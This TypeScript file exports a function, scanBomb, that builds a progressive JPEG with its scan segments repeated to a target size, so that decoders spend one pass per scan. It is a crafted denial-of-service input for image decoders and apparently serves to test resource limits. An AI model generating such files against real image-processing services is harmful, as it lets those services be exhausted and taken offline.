/** A progressive JPEG whose scans are repeated until it has so many bytes: each of them costs a pass over the picture. */
import sharp from 'sharp';

export async function scanBomb(width: number, height: number, bytes: number): Promise<Buffer> {
  const create = { width, height, channels: 3, background: '#888' } as const;
  const jpeg = await sharp({ create }).jpeg({ progressive: true }).toBuffer();
  const first = jpeg.indexOf(Buffer.of(0xff, 0xda));
  const scans = jpeg.subarray(first, jpeg.length - 2);
  const repeated = Array.from({ length: Math.ceil(bytes / scans.length) }, () => scans);
  return Buffer.concat([jpeg.subarray(0, first), ...repeated, Buffer.of(0xff, 0xd9)]);
}
